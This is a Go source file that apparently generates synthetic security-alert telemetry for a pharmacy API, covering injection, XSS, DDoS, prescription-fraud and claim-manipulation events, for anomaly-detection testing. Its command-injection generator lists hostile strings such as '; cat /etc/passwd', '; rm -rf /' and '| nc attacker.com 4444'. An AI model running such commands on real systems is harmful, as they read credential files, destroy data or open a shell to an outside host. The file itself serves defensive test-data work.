// Copyright 2026 The Bureau Authors
// SPDX-License-Identifier: Apache-2.0

package anomaly

import "github.com/bureau-foundation/fleetwatch/lib/schema/telemetry"

var apiEndpoints = []string{
	"/api/v1/prescriptions",
	"/api/v1/prescriptions/fill",
	"/api/v1/prescriptions/refill",
	"/api/v1/controlled-substances",
	"/api/v1/inventory",
	"/api/v1/patients",
	"/api/v1/insurance/verify",
	"/api/v1/insurance/claims",
	"/api/v1/dea/verify",
	"/api/v1/pharmacists",
	"/api/v1/admin/users",
	"/api/v1/admin/config",
	"/api/v1/pos/transaction",
}

var apiKinds = []Kind{
	{"rate_limit_exceeded", telemetry.SeverityMedium, apiRateLimit},
	{"auth_failure", telemetry.SeverityMedium, apiAuthFailure},
	{"validation_error", telemetry.SeverityLow, apiValidationError},
	{"sql_injection", telemetry.SeverityCritical, apiSQLInjection},
	{"xss_attempt", telemetry.SeverityHigh, apiXSSAttempt},
	{"command_injection", telemetry.SeverityCritical, apiCommandInjection},
	{"api_key_abuse", telemetry.SeverityHigh, apiKeyAbuse},
	{"unusual_access_pattern", telemetry.SeverityMedium, apiUnusualAccess},
	{"payload_size_exceeded", telemetry.SeverityMedium, apiPayloadSize},
	{"ddos_attempt", telemetry.SeverityCritical, apiDDoS},
	{"prescription_fraud_attempt", telemetry.SeverityCritical, apiPrescriptionFraud},
	{"dea_verification_failure", telemetry.SeverityHigh, apiDEAVerification},
	{"controlled_substance_override", telemetry.SeverityCritical, apiSubstanceOverride},
	{"insurance_claim_manipulation", telemetry.SeverityHigh, apiClaimManipulation},
}

func apiRateLimit(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":            d.Choice(apiEndpoints),
		"source_ip":           d.Choice(anyIPs),
		"requests_per_minute": d.Int(100, 1000),
		"limit":               60,
		"api_key":             d.Tag("key_", 1000, 9999),
		"action_taken":        "throttled",
	}
}

func apiAuthFailure(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":       d.Choice(apiEndpoints),
		"source_ip":      d.Choice(suspiciousIPs),
		"reason":         d.Choice([]string{"invalid_api_key", "expired_token", "missing_credentials", "invalid_signature", "revoked_key"}),
		"api_key_prefix": d.Tag("key_", 1000, 9999),
		"user_agent":     d.Choice(botUserAgents),
		"attempt_count":  d.Int(1, 20),
	}
}

func apiValidationError(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":       d.Choice(apiEndpoints),
		"source_ip":      d.Choice(anyIPs),
		"error_type":     d.Choice([]string{"invalid_json", "missing_required_field", "invalid_data_type", "value_out_of_range", "malformed_request"}),
		"field":          d.Choice([]string{"patient_id", "medication_id", "quantity", "dosage"}),
		"provided_value": "INVALID_DATA",
	}
}

func apiSQLInjection(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":          d.Choice(apiEndpoints),
		"source_ip":         d.Choice(suspiciousIPs),
		"injection_pattern": d.Choice(sqlInjectionPatterns),
		"parameter":         d.Choice([]string{"patient_id", "search", "id", "filter"}),
		"blocked":           true,
		"waf_rule":          d.Tag("SQL_INJECTION_", 1000, 9999),
	}
}

func apiXSSAttempt(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":    d.Choice(apiEndpoints),
		"source_ip":   d.Choice(suspiciousIPs),
		"xss_payload": d.Choice(xssPayloads),
		"parameter":   d.Choice([]string{"name", "description", "notes", "comment"}),
		"blocked":     true,
		"waf_rule":    d.Tag("XSS_PROTECTION_", 1000, 9999),
	}
}

func apiCommandInjection(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":        d.Choice(apiEndpoints),
		"source_ip":       d.Choice(suspiciousIPs),
		"command_pattern": d.Choice([]string{"; cat /etc/passwd", "| whoami", "&& ls -la", "; rm -rf /", "| nc attacker.com 4444"}),
		"parameter":       "filename",
		"blocked":         true,
	}
}

func apiKeyAbuse(d *Draw) map[string]any {
	return map[string]any{
		"api_key":                    d.Tag("key_", 1000, 9999),
		"source_ips":                 d.Sample(anyIPs, 3, 6),
		"requests_from_multiple_ips": d.Int(50, 200),
		"time_window_minutes":        d.Int(5, 30),
		"action_taken":               "key_suspended",
	}
}

func apiUnusualAccess(d *Draw) map[string]any {
	return map[string]any{
		"source_ip":           d.Choice(suspiciousIPs),
		"endpoints_accessed":  d.Sample(apiEndpoints, 3, 5),
		"requests_per_second": d.Float(10, 50),
		"pattern":             d.Choice([]string{"sequential_enumeration", "rapid_endpoint_scanning", "unusual_time_of_day", "geographic_anomaly"}),
	}
}

func apiPayloadSize(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":           d.Choice(apiEndpoints),
		"source_ip":          d.Choice(anyIPs),
		"payload_size_bytes": d.Int(10_000_000, 100_000_000),
		"max_allowed_bytes":  5_000_000,
		"action_taken":       "request_rejected",
	}
}

var ddosSourcePool = repeat(suspiciousIPs, 10)

func apiDDoS(d *Draw) map[string]any {
	return map[string]any{
		"target_endpoint":     d.Choice(apiEndpoints),
		"source_ips":          d.Sample(ddosSourcePool, 20, 50),
		"requests_per_second": d.Int(1000, 10000),
		"attack_type":         d.Choice([]string{"syn_flood", "http_flood", "slowloris", "udp_flood"}),
		"mitigation_active":   d.Bool(),
	}
}

func apiPrescriptionFraud(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":        "/api/v1/prescriptions/fill",
		"source_ip":       d.Choice(suspiciousIPs),
		"prescription_id": d.Tag("RX", 100000, 999999),
		"patient_id":      d.Tag("PT", 10000, 99999),
		"medication":      d.Choice(controlledMedications[:3]),
		"fraud_indicators": d.Sample([]string{
			"forged_signature", "altered_quantity", "invalid_dea_number",
			"duplicate_prescription", "out_of_state_prescriber", "excessive_early_refill",
		}, 2, 4),
		"prescriber_npi":          d.NPI(),
		"blocked":                 true,
		"reported_to_authorities": d.Bool(),
	}
}

func apiDEAVerification(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":        "/api/v1/dea/verify",
		"source_ip":       d.Choice(internalIPs),
		"dea_number":      d.DEANumber(),
		"prescriber_name": d.Choice([]string{"Dr. Smith", "Dr. Johnson", "Dr. Williams"}),
		"failure_reason": d.Choice([]string{
			"dea_number_expired", "dea_number_invalid", "dea_number_suspended",
			"prescriber_not_authorized", "state_license_mismatch",
		}),
		"controlled_substance":  d.Choice(drugSchedules),
		"prescription_rejected": true,
	}
}

func apiSubstanceOverride(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":   "/api/v1/prescriptions/fill",
		"source_ip":  d.Choice(internalIPs),
		"user":       d.Choice(pharmacyUsers[:3]),
		"medication": d.Choice(controlledMedications),
		"override_type": d.Choice([]string{
			"quantity_limit_override", "early_refill_override",
			"prior_authorization_bypass", "days_supply_override",
		}),
		"original_quantity":          d.Int(30, 90),
		"overridden_quantity":        d.Int(120, 240),
		"justification":              d.Optional([]string{"patient_request", "doctor_authorization", "emergency"}),
		"requires_pharmacist_review": true,
		"flagged_for_audit":          true,
	}
}

func apiClaimManipulation(d *Draw) map[string]any {
	return map[string]any{
		"endpoint":   "/api/v1/insurance/claims",
		"source_ip":  d.Choice(internalIPs),
		"claim_id":   d.Tag("CLM", 1000000, 9999999),
		"patient_id": d.Tag("PT", 10000, 99999),
		"manipulation_type": d.Choice([]string{
			"billing_code_upcoding", "quantity_inflation", "duplicate_claim_submission",
			"days_supply_manipulation", "ingredient_cost_inflation",
		}),
		"original_amount":    d.Money(50, 500),
		"modified_amount":    d.Money(500, 2000),
		"insurance_provider": d.Choice([]string{"BlueCross", "Aetna", "UnitedHealthcare", "Cigna"}),
		"detected_by":        "fraud_detection_system",
		"claim_rejected":     true,
	}
}
